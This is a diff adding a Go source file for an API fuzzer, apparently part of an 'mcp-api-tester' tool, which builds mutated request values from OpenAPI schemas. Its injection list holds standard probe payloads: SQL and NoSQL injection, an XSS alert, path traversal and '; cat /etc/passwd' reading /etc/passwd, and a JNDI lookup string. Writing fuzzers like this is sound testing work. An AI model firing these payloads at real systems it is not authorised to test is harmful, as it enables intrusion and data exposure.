@@ -0,0 +1,291 @@
+package fuzzer
+
+import (
+	"fmt"
+	"math"
+	"mcp-api-tester/generator"
+	"strings"
+
+	"github.com/pb33f/libopenapi/datamodel/high/base"
+)
+
+// Category is the kind of mutation applied to a field
+type Category string
+
+const (
+	// Boundary use values on and just outside minimum, maximum, minLength, maxLength, minItems and maxItems
+	Boundary Category = "boundary"
+
+	// Overlong use very long string
+	Overlong Category = "overlong"
+
+	// WrongType use value with type different from schema
+	WrongType Category = "wrongType"
+
+	// MissingRequired remove required param or property
+	MissingRequired Category = "missingRequired"
+
+	// Injection use sql, script, path traversal and command injection strings
+	Injection Category = "injection"
+
+	// InvalidEnum use value that is not in enum
+	InvalidEnum Category = "invalidEnum"
+
+	// Unicode use emoji, null byte, right-to-left override and combining characters
+	Unicode Category = "unicode"
+)
+
+// AllCategories is every category that fuzzer support
+var AllCategories = []Category{Boundary, Overlong, WrongType, MissingRequired, Injection, InvalidEnum, Unicode}
+
+// overlongLength is the length of string used by Overlong
+const overlongLength = 10000
+
+var injectionStrings = []string{
+	"' OR '1'='1",
+	"<script>alert(1)</script>",
+	"../../../../etc/passwd",
+	"${jndi:ldap://example.com/a}",
+	"; cat /etc/passwd",
+	"{\"$gt\": \"\"}",
+}
+
+var unicodeStrings = []string{
+	"😀🎉",
+	"null\u0000byte",
+	"‮gnp.exe",
+	"é́́",
+	"ｆｕｌｌｗｉｄｔｈ",
+	"中文字元",
+}
+
+// mutation is one value that will replace the field
+type mutation struct {
+	category    Category
+	description string
+	value       any
+	remove      bool // remove the field instead of replacing
+}
+
+// mutationsOf return every mutation of field by its schema
+func mutationsOf(schema *base.Schema, required bool, categories map[Category]bool) []mutation {
+	var mutations []mutation
+
+	if categories[MissingRequired] && required {
+		mutations = append(mutations, mutation{
+			category:    MissingRequired,
+			description: "remove required field",
+			remove:      true,
+		})
+	}
+
+	if schema == nil {
+		return mutations
+	}
+
+	schemaType := firstType(schema)
+
+	if categories[Boundary] {
+		mutations = append(mutations, boundaryMutations(schema, schemaType)...)
+	}
+
+	if categories[WrongType] {
+		if value, ok := wrongTypeValue(schemaType); ok {
+			mutations = append(mutations, mutation{
+				category:    WrongType,
+				description: "use " + describeType(value) + " instead of " + schemaType,
+				value:       value,
+			})
+		}
+	}
+
+	if categories[InvalidEnum] && len(schema.Enum) > 0 {
+		mutations = append(mutations, mutation{
+			category:    InvalidEnum,
+			description: "use value that is not in enum",
+			value:       "__invalid_enum_value__",
+		})
+	}
+
+	if schemaType != "string" {
+		return mutations
+	}
+
+	if categories[Overlong] {
+		mutations = append(mutations, mutation{
+			category:    Overlong,
+			description: "use string with 10000 characters",
+			value:       strings.Repeat("A", overlongLength),
+		})
+	}
+
+	if categories[Injection] {
+		for _, value := range injectionStrings {
+			mutations = append(mutations, mutation{
+				category:    Injection,
+				description: "use injection string " + value,
+				value:       value,
+			})
+		}
+	}
+
+	if categories[Unicode] {
+		for _, value := range unicodeStrings {
+			mutations = append(mutations, mutation{
+				category:    Unicode,
+				description: "use unicode edge case " + value,
+				value:       value,
+			})
+		}
+	}
+
+	return mutations
+}
+
+func boundaryMutations(schema *base.Schema, schemaType string) []mutation {
+	var mutations []mutation
+
+	add := func(description string, value any) {
+		mutations = append(mutations, mutation{
+			category:    Boundary,
+			description: description,
+			value:       value,
+		})
+	}
+
+	switch schemaType {
+	case "integer", "number":
+		step := 1.0
+		if schemaType == "number" {
+			step = 0.01
+		}
+
+		if schema.Minimum != nil {
+			add("use minimum", *schema.Minimum)
+			add("use value below minimum", *schema.Minimum-step)
+		}
+
+		if schema.Maximum != nil {
+			add("use maximum", *schema.Maximum)
+			add("use value above maximum", *schema.Maximum+step)
+		}
+
+		if schema.Minimum == nil && schema.Maximum == nil {
+			add("use zero", 0.0)
+			add("use negative number", -1.0)
+			add("use very large number", math.MaxInt64*10.0)
+		}
+
+		if schemaType == "integer" {
+			add("use decimal for integer", 1.5)
+		}
+	case "string":
+		// bounds above overlongLength are skipped so huge maxLength in spec doesn't exhaust memory,
+		// bounds are compared without arithmetic so MaxInt64 can't overflow, negative bound is invalid and skipped
+		if schema.MinLength != nil && *schema.MinLength >= 0 {
+			if *schema.MinLength <= overlongLength {
+				add("use string with minLength", strings.Repeat("a", int(*schema.MinLength)))
+			}
+			if *schema.MinLength > 0 && *schema.MinLength <= overlongLength+1 {
+				add("use string shorter than minLength", strings.Repeat("a", int(*schema.MinLength)-1))
+			}
+		} else {
+			add("use empty string", "")
+		}
+
+		if schema.MaxLength != nil && *schema.MaxLength >= 0 {
+			if *schema.MaxLength <= overlongLength {
+				add("use string with maxLength", strings.Repeat("a", int(*schema.MaxLength)))
+			}
+			if *schema.MaxLength < overlongLength {
+				add("use string longer than maxLength", strings.Repeat("a", int(*schema.MaxLength)+1))
+			}
+		}
+	case "array":
+		if schema.MinItems != nil && *schema.MinItems > 0 {
+			if *schema.MinItems <= overlongLength+1 {
+				add("use array shorter than minItems", arrayOf(schema, int(*schema.MinItems)-1))
+			}
+		} else {
+			add("use empty array", []any{})
+		}
+
+		if schema.MaxItems != nil && *schema.MaxItems >= 0 && *schema.MaxItems < overlongLength {
+			add("use array longer than maxItems", arrayOf(schema, int(*schema.MaxItems)+1))
+		}
+	}
+
+	return mutations
+}
+
+// arrayOf return array of count items generated from items schema,
+// items are made different when schema require unique items
+func arrayOf(schema *base.Schema, count int) []any {
+	var item any
+	if schema.Items != nil && schema.Items.IsA() && schema.Items.A != nil {
+		item = generator.ExampleFromSchema(schema.Items.A.Schema(), generator.Options{IncludeOptional: true})
+	}
+
+	unique := schema.UniqueItems != nil && *schema.UniqueItems
+
+	items := make([]any, count)
+	for i := range items {
+		items[i] = item
+		if !unique || i == 0 {
+			continue
+		}
+
+		switch v := item.(type) {
+		case string:
+			items[i] = fmt.Sprintf("%s%d", v, i)
+		case float64:
+			items[i] = v + float64(i)
+		}
+	}
+
+	return items
+}
+
+// wrongTypeValue return value that has different type from schema type
+func wrongTypeValue(schemaType string) (any, bool) {
+	switch schemaType {
+	case "integer", "number":
+		return "not-a-number", true
+	case "boolean":
+		return "maybe", true
+	case "string":
+		return 12345.0, true
+	case "object":
+		return []any{"not", "object"}, true
+	case "array":
+		return "not-an-array", true
+	}
+	return nil, false
+}
+
+func describeType(value any) string {
+	switch value.(type) {
+	case string:
+		return "string"
+	case float64:
+		return "number"
+	case []any:
+		return "array"
+	}
+	return "value"
+}
+
+// firstType return the first non null type of schema
+func firstType(schema *base.Schema) string {
+	for _, t := range schema.Type {
+		if t != "null" {
+			return t
+		}
+	}
+
+	if schema.Properties != nil && schema.Properties.Len() > 0 {
+		return "object"
+	}
+
+	return ""
+}